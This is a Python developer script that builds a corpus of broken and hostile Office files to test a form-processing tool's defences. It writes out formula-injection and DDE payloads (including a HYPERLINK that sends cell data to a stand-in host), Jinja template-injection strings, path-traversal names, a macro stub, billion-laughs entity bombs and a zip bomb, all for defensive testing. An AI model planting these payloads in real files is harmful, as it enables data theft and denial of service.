"""Build tests/corpus/: broken and hostile inputs made from the examples (developer tool).

`.venv/bin/python -m scripts.build_corpus` rewrites every file of the corpus from the filled
examples in forms/ejemplos/ and removes files it no longer makes; tests/corpus/esperado.toml
(written by hand) states what cddgen must do with each one, and tests/test_corpus.py checks
it. Run it again after the examples change, and commit the result.

The output is deterministic: zip entries get a fixed time stamp and order, document
properties a fixed date, and the encryption of the password-protected workbook a seeded
«random» salt, so rebuilding without changes gives the same bytes.

Two dev tools are needed here only — they are NOT dependencies of cddgen, and nothing else
imports them:

- ``msoffcrypto-tool``: encrypts a real workbook with a password (ECMA-376 agile
  encryption, what Excel writes), for ``roto-con-contrasena.xlsx``;
- ``xlwt``: writes a real Excel 97-2003 workbook (BIFF8), for ``roto-antiguo.xls``
  (the LibreOffice cddgen installs is Writer only, which cannot write .xls).

Install them into the virtual environment with
``.venv/bin/pip install msoffcrypto-tool xlwt``.

Sizes stay small: the zip bomb unpacks to 4 GiB from 13 KB (bzip2 of zeros), the workbook of
100,000 rows is about 1.4 MB.
"""

from __future__ import annotations

import bz2
import contextlib
import datetime
import io
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Callable

from docx import Document
from openpyxl import load_workbook

from generator.render.xlsx import write_cell

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "forms" / "ejemplos"
CORPUS = ROOT / "tests" / "corpus"
MANIFEST = "esperado.toml"

COMITE = "comite.xlsx"
ASCENSO = "ascenso.xlsx"
CDD = "cdd/0437889-promae-rimac.xlsx"
CAP_XLSX = "cap/ficha-cap-jose-carlos-mariategui.xlsx"
CAP_DOCX = "cap/ficha-cap-promae-rimac.docx"

ZIP_TIME = (2025, 1, 1, 0, 0, 0)
DOC_TIME = "2025-01-01T00:00:00Z"

# ----------------------------------------------------------------------------- hostile values
# Text that Excel or LibreOffice would run as a formula if a writer stored it as one.
HYPERLINK = '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"Ver detalle")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C notepad'!A0"
# Text that Jinja would evaluate if a value were ever rendered as template code.
JINJA_EXPR = "{{ 7*7 }}"
JINJA_FOR = "{% for x in range(3) %}X{% endfor %}"
JINJA_INTERNALS = "{{ ''.__class__.__mro__ }}"
# Right-to-left override, zero-width space and joiner, emoji with a zero-width joiner.
RTL = "Rosa \u202eodanac\u202c Ríos"
ZERO_WIDTH = "Ana\u200bMaría\u200d Quispe"
EMOJI = "Profesora 👩‍🏫 del Perú 🇵🇪"
LONG = "Asociación de Docentes del Cono Norte " * 8  # about 300 characters
LONG_EMOJI = "🦙" * 300  # 1,200 bytes in UTF-8: no file system takes it as a name
# The Spanish truth: what must come out exactly as typed.
SPANISH = ("Ñañez", "Muñoz-Pérez", "D'Angelo", "Pérez & Hijos <SAC>")


# ----------------------------------------------------------------------------- zip helpers


def _fixed_core(data: bytes) -> bytes:
    return re.sub(rb"(<dcterms:(created|modified)[^>]*>)[^<]*(</dcterms:\2>)",
                  lambda m: m.group(1) + DOC_TIME.encode() + m.group(3), data)


def repack(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
           drop: tuple[str, ...] = ()) -> bytes:
    """The zip ``data`` again, entries in their order, with a fixed time stamp; ``replace``
    changes entries, ``add`` appends some, ``drop`` removes some."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            content = replace.get(info.filename, source.read(info))
            if info.filename == "docProps/core.xml":
                content = _fixed_core(content)
            _write_entry(target, info.filename, content)
        for name, content in add.items():
            _write_entry(target, name, content)
    return out.getvalue()


def _write_entry(archive: zipfile.ZipFile, name: str, content: bytes,
                 compression: int = zipfile.ZIP_DEFLATED) -> None:
    info = zipfile.ZipInfo(name, ZIP_TIME)
    info.compress_type = compression
    info.external_attr = 0o644 << 16
    archive.writestr(info, content, compresslevel=9 if compression == zipfile.ZIP_DEFLATED else None)


def read_entry(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def sheet_part(data: bytes, title: str) -> str:
    """The zip entry of the worksheet called ``title``."""
    workbook = read_entry(data, "xl/workbook.xml").decode("utf-8")
    rels = read_entry(data, "xl/_rels/workbook.xml.rels").decode("utf-8")
    escaped = title.encode("ascii", "xmlcharrefreplace").decode()
    match = re.search(rf'<sheet [^>]*name="(?:{re.escape(title)}|{re.escape(escaped)})"[^>]*r:id="(rId\d+)"',
                      workbook)
    if match is None:
        raise KeyError(title)
    target = re.search(rf'Target="([^"]+)" Id="{match.group(1)}"', rels).group(1)
    return target.lstrip("/")


def example(name: str) -> bytes:
    return (EXAMPLES / name).read_bytes()


def saved_workbook(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return repack(buffer.getvalue())


def saved_document(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return repack(buffer.getvalue())


def edited(name: str, edit: Callable) -> bytes:
    """A copy of the example ``name`` changed by ``edit(workbook)``."""
    workbook = load_workbook(io.BytesIO(example(name)))
    edit(workbook)
    return saved_workbook(workbook)


def put(cell, value) -> None:
    """Type ``value`` into ``cell`` as a person does in Excel: text that starts with = + - @
    is stored as text (Excel's leading apostrophe), not as a formula."""
    write_cell(cell, value)


def set_fields(sheet, values: dict[str, object]) -> None:
    """Set the value (column B) of the rows of a label/value sheet whose label starts with a key."""
    for row in sheet.iter_rows(min_row=2):
        label = str(row[0].value or "")
        for key, value in values.items():
            if label.startswith(key):
                put(row[1], value)


# ----------------------------------------------------------------------------- broken files


def truncated(name: str) -> bytes:
    data = example(name)
    return data[: len(data) // 2]


def tiny_pdf() -> bytes:
    """A real one-page PDF (what a scanner or «Imprimir como PDF» gives)."""
    stream = b"BT /F1 18 Tf 72 720 Td (Acta escaneada) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def tiny_png() -> bytes:
    """A real 8x8 PNG (a photo of the form sent instead of the form)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    raw = b"".join(b"\0" + bytes([200, 30, 30]) * 8 for _ in range(8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


@contextlib.contextmanager
def _reproducible_encryption(seed: int):
    """msoffcrypto draws its salts and key from ``secrets`` and stamps the container with the
    time: seed the one and fix the other, for a stable file."""
    import secrets

    from msoffcrypto.method.container import ecma376_encrypted

    class FixedTime(datetime.datetime):
        @classmethod
        def now(cls, tz=None):
            return cls(2025, 1, 1)

    generator = random.Random(seed)
    original_bytes, original_time = secrets.token_bytes, ecma376_encrypted.datetime
    secrets.token_bytes = lambda size=32: bytes(generator.getrandbits(8) for _ in range(size))
    ecma376_encrypted.datetime = FixedTime
    try:
        yield
    finally:
        secrets.token_bytes, ecma376_encrypted.datetime = original_bytes, original_time


def password_protected() -> bytes:
    """The committee form encrypted with the password «cddgen», as Excel does it."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with _reproducible_encryption(9):
        OOXMLFile(io.BytesIO(example(COMITE))).encrypt("cddgen", out)
    return out.getvalue()


def old_xls() -> bytes:
    """The committee form's data in a real Excel 97-2003 workbook (BIFF8)."""
    import xlwt

    source = load_workbook(io.BytesIO(example(COMITE)), data_only=True)
    book = xlwt.Workbook(encoding="utf-8")
    for title in ("Sesión", "Integrantes", "Acuerdos"):
        sheet = book.add_sheet(title)
        for r, row in enumerate(source[title].iter_rows(values_only=True)):
            for c, value in enumerate(row):
                if value is not None:
                    sheet.write(r, c, value if isinstance(value, (int, float, str)) else str(value))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_export() -> bytes:
    """The committee's members saved as CSV (Excel's «CSV UTF-8»: BOM, semicolons)."""
    source = load_workbook(io.BytesIO(example(COMITE)), data_only=True)
    lines = [";".join("" if value is None else str(value) for value in row)
             for row in source["Integrantes"].iter_rows(values_only=True) if any(row)]
    return ("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8")


def without_rows() -> bytes:
    def edit(workbook) -> None:
        sheet = workbook["Integrantes"]
        sheet.delete_rows(2, sheet.max_row)

    return edited(COMITE, edit)


def without_sheet() -> bytes:
    def edit(workbook) -> None:
        del workbook["Integrantes"]

    return edited(COMITE, edit)


def extra_sheet() -> bytes:
    def edit(workbook) -> None:
        notes = workbook.create_sheet("Notas de la secretaria", 1)
        notes["A1"] = "Revisado por mesa de partes el 06/01/2026."
        notes["A2"] = "Falta la firma del tercer miembro en el cargo físico."

    return edited(COMITE, edit)


def columns_reordered() -> bytes:
    """The members' columns in the opposite order (headers move with their data)."""
    def edit(workbook) -> None:
        sheet = workbook["Integrantes"]
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        for r, values in enumerate(rows, start=1):
            for c, value in enumerate(reversed(values), start=1):
                sheet.cell(row=r, column=c).value = value

    return edited(COMITE, edit)


def merged_cells() -> bytes:
    """Students of one period with the «Periodo académico» typed once and merged down, as
    people do to make a list look tidy: only the first cell of a merge holds the value."""
    def edit(workbook) -> None:
        sheet = workbook["Estudiantes"]
        header = [cell.value for cell in sheet[1]]
        column = next(i for i, title in enumerate(header, start=1) if str(title).startswith("Periodo"))
        for row in range(3, 6):
            sheet.cell(row=row, column=column).value = None
        letter = sheet.cell(row=2, column=column).column_letter
        sheet.merge_cells(f"{letter}2:{letter}5")

    return edited(CDD, edit)


def _with_formulas(cached: bool) -> bytes:
    """The members' names and DNIs typed as formulas. Excel and LibreOffice store each
    formula's last result beside it (``cached``); a workbook written by a program may not."""
    data = example(COMITE)
    part = sheet_part(data, "Integrantes")
    xml = read_entry(data, part).decode("utf-8")
    source = load_workbook(io.BytesIO(data))["Integrantes"]

    def formula_cell(ref: str, formula: str, value: str) -> str:
        result = f"<v>{value}</v>" if cached else ""
        return f'<c r="{ref}" t="str"><f>{formula}</f>{result}</c>'

    for row in range(2, 5):
        for column, make in (("B", lambda v: 'PROPER("' + v.lower() + '")'),
                             ("E", lambda v: f'TEXT({int(v)},"00000000")')):
            ref = f"{column}{row}"
            value = str(source[ref].value)
            escaped = value.encode("ascii", "xmlcharrefreplace").decode()
            pattern = re.compile(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)')
            formula = make(value).replace('"', "&quot;").encode("ascii", "xmlcharrefreplace").decode()
            xml, count = pattern.subn(formula_cell(ref, formula, escaped), xml, count=1)
            assert count == 1, ref
    return repack(data, replace={part: xml.encode("utf-8")})


# ----------------------------------------------------------------------------- hostile files


def _vba_project() -> bytes:
    """Bytes standing for a VBA project (cddgen refuses the part by its name, never reads it)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"ThisWorkbook\"\r\nSub Auto_Open()\r\n" \
        b"Shell \"cmd /c calc\"\r\nEnd Sub\r\n".ljust(512, b"\0")


def _with_macros(name: str, folder: str, main_type: str | None) -> bytes:
    data = example(name)
    types = read_entry(data, "[Content_Types].xml").decode("utf-8")
    types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                      "</Types>")
    if main_type is not None:
        types = re.sub(r'(PartName="/' + folder + r'/(?:workbook|document)\.xml" ContentType=")[^"]+"',
                       lambda m: m.group(1) + main_type + '"', types)
    rels_name = f"{folder}/_rels/{'workbook' if folder == 'xl' else 'document'}.xml.rels"
    rels = read_entry(data, rels_name).decode("utf-8").replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/></Relationships>')
    return repack(data, replace={"[Content_Types].xml": types.encode(), rels_name: rels.encode()},
                  add={f"{folder}/vbaProject.bin": _vba_project()})


def xlsm() -> bytes:
    return _with_macros(COMITE, "xl", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")


def docm() -> bytes:
    return _with_macros(CAP_DOCX, "word", "application/vnd.ms-word.document.macroEnabled.main+xml")


def hidden_macros_xlsx() -> bytes:
    return _with_macros(COMITE, "xl", None)


def hidden_macros_docx() -> bytes:
    return _with_macros(CAP_DOCX, "word", None)


_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                     for i in range(1, 10))
           + "]>")


def _with_entity_bomb(data: bytes, part: str, needle: str) -> bytes:
    """``part`` of ``data`` with a «billion laughs» DTD and ``needle`` replaced by the bomb."""
    xml = read_entry(data, part).decode("utf-8")
    declaration = ""
    if xml.startswith("<?xml"):
        declaration, xml = xml.split("?>", 1)
        declaration += "?>"
    assert needle in xml, needle
    xml = declaration + _LAUGHS + xml.replace(needle, "&lol9;", 1)
    return repack(data, replace={part: xml.encode("utf-8")})


def billion_laughs_xlsx() -> bytes:
    data = example(COMITE)
    return _with_entity_bomb(data, sheet_part(data, "Integrantes"), "Quispe &#209;a&#241;ez")


def billion_laughs_docx() -> bytes:
    return _with_entity_bomb(example(CAP_DOCX), "word/document.xml", "CETPRO PROMAE RIMAC")


def zip_bomb() -> bytes:
    """A workbook whose four worksheets unpack to 1 GiB of zeros each: 4 GiB from about 4 KB.

    bzip2 (which zip files may use, and Python's zipfile reads) squeezes a run of zeros far
    more than deflate; the entries are honest: their declared sizes are the real ones.
    """
    data = example(COMITE)
    compressed = _bzip2_zeros(1 << 30)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename.startswith("xl/worksheets/sheet") and info.filename[-5] in "1234":
                _write_raw(target, info.filename, compressed, 1 << 30, _crc_of_zeros(1 << 30))
            else:
                _write_entry(target, info.filename, source.read(info))
    return out.getvalue()


def _bzip2_zeros(size: int) -> bytes:
    compressor = bz2.BZ2Compressor(9)
    block = b"\0" * (1 << 24)
    parts = [compressor.compress(block) for _ in range(size // len(block))]
    return b"".join(parts) + compressor.flush()


def _crc_of_zeros(size: int) -> int:
    crc, block = 0, b"\0" * (1 << 24)
    for _ in range(size // len(block)):
        crc = zlib.crc32(block, crc)
    return crc


def _write_raw(archive: zipfile.ZipFile, name: str, compressed: bytes, size: int, crc: int) -> None:
    """Append an entry whose data is already compressed with bzip2 (zipfile cannot take that)."""
    info = zipfile.ZipInfo(name, ZIP_TIME)
    info.compress_type = zipfile.ZIP_BZIP2
    info.external_attr = 0o644 << 16
    info.file_size, info.compress_size, info.CRC = size, len(compressed), crc
    info.header_offset = archive.fp.tell()
    archive.fp.write(info.FileHeader(zip64=False))
    archive.fp.write(compressed)
    archive.start_dir = archive.fp.tell()
    archive.filelist.append(info)
    archive.NameToInfo[name] = info
    archive._didModify = True


def hundred_thousand_rows() -> bytes:
    """The committee form with 100,000 postulantes pasted into «Postulantes» (the
    reader's limit is 20,000 rows)."""
    data = example(COMITE)
    part = sheet_part(data, "Postulantes")
    rows = ['<row r="1"><c r="A1" t="inlineStr"><is><t>DNI *</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>Apellidos y nombres</t></is></c></row>']
    for index in range(100_000):
        r = index + 2
        rows.append(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{50000000 + index:08d}</t></is></c>'
                    f'<c r="B{r}" t="inlineStr"><is><t>Postulante {index + 1}</t></is></c></row>')
    xml = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           '<dimension ref="A1:B100001"/><sheetData>' + "".join(rows) + "</sheetData></worksheet>")
    return repack(data, replace={part: xml.encode("utf-8")})


# The last cell of a sheet, as an XML row: a workbook of 19 KB whose data spans A1:XFD1048576.
LAST_CELL_ROW = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>fin</t></is></c></row>'


def _sheet_xml(data: bytes, title: str, change: Callable[[str], str]) -> bytes:
    """``data`` with the XML of sheet ``title`` changed by ``change``."""
    part = sheet_part(data, title)
    return repack(data, replace={part: change(read_entry(data, part).decode("utf-8")).encode("utf-8")})


def _wrong_dni(xml: str) -> str:
    """The first member's DNI (E2) made «123»: the committee form is observed (and marked)."""
    changed, count = re.subn(r'<c r="E2"[^>]*?(?:/>|>.*?</c>)', '<c r="E2" t="inlineStr"><is><t>123</t></is></c>',
                             xml, count=1)
    assert count == 1
    return changed


def last_cell_observed() -> bytes:
    """The committee form with «fin» in XFD1048576 and a wrong DNI: reading, recognising and
    the marked copy must visit the two cells there are, not the 17 billion between them."""
    return _sheet_xml(example(COMITE), "Integrantes",
                      lambda xml: _wrong_dni(xml).replace("</sheetData>", LAST_CELL_ROW + "</sheetData>"))


def last_cell_hidden_reference() -> bytes:
    """The last cell written «<c\\nr=…»: a line break where the cell's attributes start, which
    XML allows and which once hid the cell from the scan that keeps calamine from laying the
    sheet out densely (the process aborted)."""
    row = LAST_CELL_ROW.replace("<c r=", "<c\nr=")
    return _sheet_xml(example(COMITE), "Integrantes", lambda xml: xml.replace("</sheetData>", row + "</sheetData>"))


def giant_merge() -> bytes:
    """A merged range H10:XFD1048576 (openpyxl makes a cell for each of the 17 billion cells it
    covers when it loads the workbook to mark it) and a wrong DNI."""
    def change(xml: str) -> str:
        assert "<mergeCells" not in xml
        merge = '<mergeCells count="1"><mergeCell ref="H10:XFD1048576"/></mergeCells>'
        return re.sub(r"(</sheetData>)", lambda m: m.group(1) + merge, _wrong_dni(xml), count=1)

    return _sheet_xml(example(COMITE), "Integrantes", change)


def rows_without_references() -> bytes:
    """200,000 rows of cells without their own reference (r=) in the «Instrucciones» sheet, and
    a wrong DNI: openpyxl places each cell after the previous one; calamine cannot be told
    where they are."""
    rows = "<row><c><v>1</v></c></row>" * 200_000
    data = _sheet_xml(example(COMITE), "Instrucciones", lambda xml: xml.replace("</sheetData>", rows + "</sheetData>"))
    return _sheet_xml(data, "Integrantes", _wrong_dni)


# ----------------------------------------------------------------------------- misreadings (issue 15)


def thousands_in_hours() -> bytes:
    """Hours «1,200» and credits «1.200» (a thousand two hundred, or one point two?), and a plain
    decimal comma «92,5», which stays accepted."""
    def edit(workbook) -> None:
        sheet = workbook["Capacitaciones"]
        header = [str(cell.value or "") for cell in sheet[1]]
        hours = header.index("Horas") + 1
        credits = header.index("Créditos") + 1
        put(sheet.cell(row=2, column=hours), "1,200")
        put(sheet.cell(row=3, column=credits), "1.200")
        put(sheet.cell(row=4, column=hours), "92,5")

    return edited(ASCENSO, edit)


def loose_valoraciones() -> bytes:
    """The Excel ficha with valoraciones «-2», «2?», «¿1?» and «3%» (once read as 2, 2, 1, 3)."""
    def edit(workbook) -> None:
        sheet = workbook["Valoración"]
        column = [str(cell.value or "") for cell in sheet[1]].index("Valoración") + 1
        for row, text in zip(range(2, 6), ("-2", "2?", "¿1?", "3%")):
            put(sheet.cell(row=row, column=column), text)

    return edited(CAP_XLSX, edit)


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _ficha_item_marked(content: str, column: int = 3) -> bytes:
    """The Word ficha with the first item's X (item 1.1 of «Sensibilización») taken out and
    ``content`` (runs of WordprocessingML) put in its value column ``column`` instead."""
    from docx.oxml import parse_xml

    document = Document(io.BytesIO(example(CAP_DOCX)))
    row = next(row for table in document.tables for row in table.rows
               if row.cells[0].text.strip() == "1.1." and len(row.cells) > 4)
    values = row.cells[-4:]
    for cell in values:
        for paragraph in cell.paragraphs:
            for run in list(paragraph.runs):
                run._r.getparent().remove(run._r)
    paragraph = values[column].paragraphs[0]._p
    for element in list(parse_xml(f'<w:p {_W} xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml">'
                                  f"{content}</w:p>")):
        paragraph.append(element)
    return saved_document(document)


def hidden_x() -> bytes:
    """An X formatted as hidden text (Fuente › Oculto): it does not print."""
    return _ficha_item_marked('<w:r><w:rPr><w:vanish/></w:rPr><w:t>X</w:t></w:r>')


def deleted_x() -> bytes:
    """An X deleted with tracked changes on, its text left in w:t: it does not print."""
    return _ficha_item_marked('<w:del w:id="901" w:author="Especialista" w:date="2026-05-14T10:00:00Z">'
                              "<w:r><w:t>X</w:t></w:r></w:del>")


def x_in_content_control() -> bytes:
    return _ficha_item_marked('<w:sdt><w:sdtPr><w:alias w:val="Marca"/></w:sdtPr><w:sdtContent>'
                              "<w:r><w:t>X</w:t></w:r></w:sdtContent></w:sdt>")


def ticked_check_box() -> bytes:
    """A legacy check box form field (Programador › Herramientas heredadas), ticked."""
    return _ficha_item_marked(
        '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Casilla1"/><w:enabled/><w:checkBox>'
        '<w:sizeAuto/><w:default w:val="0"/><w:checked/></w:checkBox></w:ffData></w:fldChar></w:r>'
        '<w:r><w:instrText xml:space="preserve"> FORMCHECKBOX </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def x_with_soft_hyphen() -> bytes:
    """An X followed by a soft hyphen (U+00AD, pasted from a web page): it prints as X."""
    return _ficha_item_marked("<w:r><w:t>X\u00ad</w:t></w:r>")


# ----------------------------------------------------------------------------- hostile values


def hostile_committee() -> bytes:
    """Members and agreements whose text looks like formulas and template code."""
    def edit(workbook) -> None:
        members = workbook["Integrantes"]
        for ref, value in (("B2", HYPERLINK), ("C2", CMD), ("B3", JINJA_EXPR), ("C3", JINJA_FOR),
                           ("B4", AT_SUM), ("C4", MINUS)):
            put(members[ref], value)
        agreements = workbook["Acuerdos"]
        for row, text in enumerate((JINJA_INTERNALS, HYPERLINK, f"Contratar a {SPANISH[3]} {JINJA_EXPR}"), start=2):
            put(agreements.cell(row=row, column=1), text)

    return edited(COMITE, edit)


def hostile_ascenso() -> bytes:
    """Postulantes whose names would break file names or run as formulas."""
    names = [
        ("../../etc/passwd", "Ana"),
        ("CON", "NUL"),
        ("Muñoz/Pérez\\Ríos", "a:b*c?d"),
        (LONG, "Lucía"),
        (RTL, ZERO_WIDTH),
        (EMOJI, LONG_EMOJI),
        (HYPERLINK, CMD),
        (AT_SUM, JINJA_EXPR),
    ]

    def edit(workbook) -> None:
        sheet = workbook["Postulantes"]
        header = [cell.value for cell in sheet[1]]
        apellidos = header.index("Apellidos *") + 1
        nombres = header.index("Nombres *") + 1
        row = 2
        for surname, name in names:
            if sheet.cell(row=row, column=1).value is None:
                break
            put(sheet.cell(row=row, column=apellidos), surname)
            put(sheet.cell(row=row, column=nombres), name)
            row += 1

    return edited(ASCENSO, edit)


def _cdd_with(name_value: str, student_names: tuple[str, ...], broken: bool = False) -> bytes:
    def edit(workbook) -> None:
        set_fields(workbook["CETPRO"], {"Nombre del CETPRO": name_value})
        students = workbook["Estudiantes"]
        header = [cell.value for cell in students[1]]
        column = next(i for i, title in enumerate(header, start=1) if str(title).startswith("Apellidos y nombres"))
        for row, text in enumerate(student_names, start=2):
            put(students.cell(row=row, column=column), text)
        if broken:
            number = next(i for i, title in enumerate(header, start=1) if str(title).startswith("Número de doc"))
            students.cell(row=2, column=number).value = "71-0000"

    return edited(CDD, edit)


def hostile_cdd() -> bytes:
    """A CETPRO whose name is a formula (it names the oficios, their annexes and the UGEL's
    summary) and students whose names are formulas or template code (the annexes list them)."""
    return _cdd_with(HYPERLINK, (HYPERLINK, CMD, AT_SUM, MINUS, JINJA_EXPR, RTL, EMOJI))


def hostile_cdd_rejected() -> bytes:
    """Hostile names in a workbook with one bad document number: observed, with a marked copy."""
    return _cdd_with("../../CON", (HYPERLINK, CMD, AT_SUM, MINUS, JINJA_EXPR), broken=True)


def hostile_cap_xlsx() -> bytes:
    def edit(workbook) -> None:
        set_fields(workbook["Datos generales"], {"Nombre del CETPRO": CMD + " " + LONG_EMOJI[:100],
                                                 "Nombre del director": SPANISH[3]})
        notes = workbook["Observaciones y compromisos"]
        for row, text in enumerate((HYPERLINK, JINJA_FOR, CMD, AT_SUM), start=2):
            put(notes.cell(row=row, column=2), text)

    return edited(CAP_XLSX, edit)


def hostile_cap_docx() -> bytes:
    """The Word ficha with a CETPRO name full of path tricks and template code in the
    director's commitments."""
    document = Document(io.BytesIO(example(CAP_DOCX)))
    replacements = {"CETPRO PROMAE RIMAC": "..\\..\\AUX:CETPRO/PROMAE \u202eRIMAC",
                    "Jorge Luis Paredes Quispe": JINJA_INTERNALS}
    for paragraph in _paragraphs(document):
        for old, new in replacements.items():
            if old in paragraph.text:
                for run in paragraph.runs:
                    run.text = run.text.replace(old, new)
    return saved_document(document)


def _paragraphs(document):
    yield from document.paragraphs
    for table in document.tables:
        for row in table.rows:
            for cell in row.cells:
                yield from cell.paragraphs


def spanish_truth() -> bytes:
    """The committee with the names of the issue, typed as Peruvians write them."""
    def edit(workbook) -> None:
        members = workbook["Integrantes"]
        members["B2"], members["C2"] = "María Elena", "Quispe Ñañez"
        members["B3"], members["C3"] = "José Luis", "D'Angelo Muñoz-Pérez"
        agreements = workbook["Acuerdos"]
        agreements["A2"] = "Encargar la impresión de las actas a Pérez & Hijos <SAC>."

    return edited(COMITE, edit)


# ----------------------------------------------------------------------------- the corpus

BUILDERS: dict[str, Callable[[], bytes]] = {
    # Broken files
    "roto-truncado.xlsx": lambda: truncated(COMITE),
    "roto-truncado.docx": lambda: truncated(CAP_DOCX),
    "roto-pdf-con-otro-nombre.xlsx": tiny_pdf,
    "roto-foto-con-otro-nombre.docx": tiny_png,
    "roto-vacio.xlsx": lambda: b"",
    "roto-con-contrasena.xlsx": password_protected,
    "roto-antiguo.xls": old_xls,
    "roto-antiguo-renombrado.xlsx": old_xls,
    "roto-datos.csv": csv_export,
    "roto-sin-filas.xlsx": without_rows,
    "roto-falta-hoja.xlsx": without_sheet,
    "roto-celdas-combinadas.xlsx": merged_cells,
    "roto-formulas-sin-resultado.xlsx": lambda: _with_formulas(cached=False),
    "ok-hoja-extra.xlsx": extra_sheet,
    "ok-columnas-en-otro-orden.xlsx": columns_reordered,
    "ok-formulas.xlsx": lambda: _with_formulas(cached=True),
    # Hostile files
    "hostil-macros.xlsm": xlsm,
    "hostil-macros.docm": docm,
    "hostil-macros-escondidas.xlsx": hidden_macros_xlsx,
    "hostil-macros-escondidas.docx": hidden_macros_docx,
    "hostil-billion-laughs.xlsx": billion_laughs_xlsx,
    "hostil-billion-laughs.docx": billion_laughs_docx,
    "hostil-bomba-zip.xlsx": zip_bomb,
    "hostil-100000-filas.xlsx": hundred_thousand_rows,
    "hostil-celda-xfd1048576.xlsx": last_cell_observed,
    "hostil-celda-xfd1048576-oculta.xlsx": last_cell_hidden_reference,
    "hostil-combinadas-hasta-xfd1048576.xlsx": giant_merge,
    "hostil-200000-filas-sin-referencia.xlsx": rows_without_references,
    # Hostile values in otherwise valid forms
    "valores-comite.xlsx": hostile_committee,
    "valores-ascenso.xlsx": hostile_ascenso,
    "valores-cdd.xlsx": hostile_cdd,
    "valores-cdd-con-error.xlsx": hostile_cdd_rejected,
    "valores-ficha-cap.xlsx": hostile_cap_xlsx,
    "valores-ficha-cap.docx": hostile_cap_docx,
    # Misreadings (issue 15)
    "roto-horas-con-miles.xlsx": thousands_in_hours,
    "roto-ficha-valoraciones.xlsx": loose_valoraciones,
    "roto-ficha-x-oculta.docx": hidden_x,
    "roto-ficha-x-borrada.docx": deleted_x,
    "roto-ficha-x-en-control.docx": x_in_content_control,
    "roto-ficha-casilla-marcada.docx": ticked_check_box,
    "roto-ficha-x-con-guion-invisible.docx": x_with_soft_hyphen,
    # A name that is not UTF-8 (issue 15.2): see «nombre_en_bandeja» in esperado.toml.
    "nombre-no-utf8.xlsx": lambda: example(COMITE),
    # The Spanish truth
    "verdad-nombres.xlsx": spanish_truth,
}


def main() -> None:
    CORPUS.mkdir(parents=True, exist_ok=True)
    for name, build in BUILDERS.items():
        data = build()
        (CORPUS / name).write_bytes(data)
        print(f"{len(data):>10,} bytes  {name}")
    for path in sorted(CORPUS.iterdir()):
        if path.is_file() and path.name not in BUILDERS and path.name != MANIFEST:
            path.unlink()
            print(f"borrado: {path.name}")


if __name__ == "__main__":
    main()
